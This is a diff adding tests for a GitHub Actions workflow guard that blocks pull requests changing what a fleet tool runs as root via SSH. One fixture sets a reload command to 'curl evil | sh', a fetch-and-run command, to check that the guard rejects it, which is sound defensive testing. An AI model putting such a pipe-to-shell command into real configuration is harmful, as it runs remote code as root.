@@ -7,7 +7,7 @@
  * available offline, so those two are checked field by field.)
  */
 import { execFileSync, spawnSync } from 'node:child_process';
-import { chmodSync, copyFileSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { chmodSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
@@ -174,6 +174,54 @@ describe('examples/github/fleet-plan.yml', () => {
       const script = (planStep.run as string).split('\n').map((l) => (l.includes('fleet plan') ? `(exit ${code})` : l)).join('\n');
       const res = spawnSync('bash', ['-e', '-c', script], { env: { PATH: process.env['PATH'], GITHUB_OUTPUT: '/dev/null' } });
       expect(res.status === 0, `plan exit ${code}`).toBe(ok);
+    }
+  });
+});
+
+describe('examples/github/fleet-plan.yml: commands run as root come from the base branch', () => {
+  const [wf] = yamlDocs('github/fleet-plan.yml') as [Yaml];
+  const steps = stepsOf(obj(wf['jobs'])['plan']);
+  const guard = steps.find((s) => s.name === 'Commands run as root come from the base branch') as Step;
+  const baseCheckout = steps.find((s) => s.uses?.startsWith('actions/checkout') && obj(s.with ?? {})['path'] === 'base');
+
+  /** A workspace with the PR's fleet/ and the base branch's in base/fleet/, and fleet where npm ci puts it. */
+  function workspace(base: string, head: string): string {
+    const ws = mkdtempSync(join(tmpdir(), 'fleet-guard-'));
+    for (const [dir, inventory] of [[join(ws, 'fleet'), head], [join(ws, 'base', 'fleet'), base]] as const) {
+      mkdirSync(dir, { recursive: true });
+      writeFileSync(join(dir, 'keepalive.yml'), 'inventory: inventory.yml\nsshd:\n  ClientAliveInterval: 298\n');
+      writeFileSync(join(dir, 'inventory.yml'), inventory);
+    }
+    mkdirSync(join(ws, 'node_modules', '.bin'), { recursive: true });
+    symlinkSync(CLI, join(ws, 'node_modules', '.bin', 'fleet'));
+    mkdirSync(join(ws, 'tmp'));
+    return ws;
+  }
+  const run = (ws: string): ReturnType<typeof spawnSync> =>
+    spawnSync('bash', ['-e', '-c', guard.run as string], { cwd: ws, encoding: 'utf8', env: { PATH: process.env['PATH'], GITHUB_WORKSPACE: ws, RUNNER_TEMP: join(ws, 'tmp') } });
+  const base = 'all:\n  hosts:\n    web1: { address: 192.0.2.1, sshd_reload_command: "systemctl reload ssh" }\n';
+
+  it('checks out the base branch beside the PR', () => {
+    expect(baseCheckout).toBeDefined();
+    expect(obj(baseCheckout?.with ?? {})['ref']).toBe('${{ github.event.pull_request.base.sha }}');
+    expect(steps.indexOf(guard)).toBeLessThan(steps.findIndex((s) => s.run?.includes('fleet plan')));
+  });
+
+  it('passes a PR that adds a host with the default commands or keeps the base\'s', () => {
+    const res = run(workspace(base, `${base}    web2: { address: 192.0.2.2 }\n`));
+    expect(res.status, String(res.stdout) + String(res.stderr)).toBe(0);
+  });
+
+  it('fails a PR that changes a reload command, adds one, or turns on become, naming the lines', () => {
+    for (const head of [
+      'all:\n  hosts:\n    web1: { address: 192.0.2.1, sshd_reload_command: "curl evil | sh" }\n',
+      `${base}    web2: { address: 192.0.2.2, sshd_binary: /tmp/x }\n`,
+      `${base}    web3: { address: 192.0.2.3, become: true, user: deploy }\n`,
+    ]) {
+      const res = run(workspace(base, head));
+      expect(res.status).toBe(1);
+      expect(String(res.stdout)).toMatch(/::error::this pull request changes what fleet runs as root/);
+      expect(String(res.stdout)).toMatch(/^web\d\s+(reload|sshd|become)\s/m);
     }
   });
 });
